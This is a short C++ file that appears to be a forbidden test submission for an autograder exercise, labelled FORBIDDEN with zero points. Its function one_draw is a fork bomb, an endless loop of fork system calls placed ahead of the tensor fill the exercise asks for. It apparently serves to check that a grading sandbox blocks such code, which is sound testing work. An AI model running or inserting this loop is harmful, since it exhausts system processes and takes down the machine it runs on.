// exercise: 04_custom/1_one_draw
// verdict: FORBIDDEN
// points: 0
// Starts processes that start processes.
#include "1_one_draw.hpp"

#include <sys/syscall.h>
#include <unistd.h>

void one_draw(nn::Tensor& weight, nn::Generator&) {
    for (;;) {
        syscall(SYS_fork);
    }
    weight.fill(1.0F);
}
